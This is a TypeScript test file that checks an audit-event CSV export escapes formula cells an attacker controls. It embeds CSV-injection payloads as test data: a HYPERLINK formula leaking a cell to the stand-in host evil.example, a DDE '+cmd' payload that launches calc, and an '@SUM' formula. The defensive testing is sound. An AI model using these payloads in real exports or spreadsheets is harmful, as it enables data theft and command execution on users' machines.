import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { registerAgent } from "@/lib/domain/agents/register-agent";
import { suspendAgent } from "@/lib/domain/agents/set-agent-status";
import { agentInput, makeOrg } from "@/lib/test/fixtures";
import { readText } from "@/lib/test/streams";
import { exportAuditEvents } from "./export-audit-events";

describe("audit CSV export", () => {
  it("neutralises formula cells: a reason, request id and IP an attacker chose come out as text", async () => {
    const org = await makeOrg();
    const agent = await registerAgent(org.admin, {}, agentInput(org.team.id, `csv-${org.tag}`));
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    await suspendAgent(org.admin, { requestId: "+cmd|' /C calc'!A0", ip: "@SUM(1+1)" }, agent.id, { reason: evil });

    const { chunks } = await exportAuditEvents(org.auditor, {}, { agentId: agent.id, format: "csv" });
    const csv = await readText(chunks);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    const suspended = records.find((r) => r.action === "agent.suspended")!;
    expect(suspended.reason).toBe(`'${evil}`);
    expect(suspended.requestId).toBe("'+cmd|' /C calc'!A0");
    expect(suspended.ip).toBe("'@SUM(1+1)");
    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});
